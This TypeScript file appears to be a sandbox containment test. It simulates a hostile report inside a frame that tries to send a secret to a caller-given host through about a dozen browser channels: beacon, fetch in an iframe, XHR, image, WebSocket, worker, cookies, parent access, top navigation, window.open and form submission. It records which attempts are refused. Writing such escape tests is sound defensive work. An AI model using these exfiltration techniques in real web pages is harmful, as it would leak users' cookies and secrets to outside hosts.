/**
 * What a report that turns against its reader would try, from inside of its frame, where this runs: send a secret to a host.
 * @returns by way out: `refused`, or what came of it
 */
export async function attack({
  host,
  secret,
}: Readonly<Record<'host' | 'secret', string>>): Promise<Readonly<Record<string, string>>> {
  const outcome = async (run: () => unknown): Promise<string> => {
    try {
      return `done: ${String(await run())}`;
    } catch {
      return 'refused';
    }
  };
  const address = `http://${host}/leak?${secret}`;
  // Says that it was sent though it is refused; what comes of it the test sees.
  navigator.sendBeacon(address, secret);
  const event = (target: EventTarget, bad: string, good: string) =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve(good));
      target.addEventListener(bad, () => reject(new Error(bad)));
    });
  /** Runs an expression in a frame inside of this one, where everything is as the browser made it. */
  const inFreshFrame = (expression: string) =>
    new Promise((resolve, reject) => {
      const frame = document.createElement('iframe');
      frame.srcdoc = `<script>${expression}.then(() => 1, () => 0).then((got) => parent.postMessage(got, '*'))</script>`;
      addEventListener('message', ({ source, data }) => {
        if (source !== frame.contentWindow) return;
        if (data === 1) resolve('sent');
        else reject(new Error('refused'));
      });
      document.body.append(frame);
    });
  return {
    origin: await outcome(() => (self.origin === 'null' ? Promise.reject(new Error('none')) : self.origin)),
    // The interface is given a `fetch` that asks nobody.
    fetch: await outcome(() => inFreshFrame(`fetch('${address}', { mode: 'no-cors' })`)),
    request: await outcome(() => {
      const request = new XMLHttpRequest();
      request.open('GET', address);
      request.send();
      return event(request, 'error', 'load');
    }),
    picture: await outcome(() => {
      const image = new Image();
      image.src = address;
      return event(image, 'error', 'load');
    }),
    socket: await outcome(() => event(new WebSocket(`ws://${host}/leak?${secret}`), 'error', 'open')),
    worker: await outcome(() => {
      const code = `fetch('${address}', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))`;
      return event(new Worker(URL.createObjectURL(new Blob([code]))), 'error', 'message');
    }),
    storage: await outcome(() => indexedDB.open('x') && document.cookie),
    page: await outcome(() => window.parent.document.title),
    top: await outcome(() => {
      (window.top as Window).location.href = address;
      return 'left';
    }),
    window: await outcome(() => window.open(address) ?? Promise.reject(new Error('none'))),
    form: await outcome(async () => {
      const form = document.createElement('form');
      form.action = address;
      document.body.append(form);
      form.submit();
      await new Promise((done) => setTimeout(done, 100));
      return Promise.reject(new Error('still here'));
    }),
  };
}
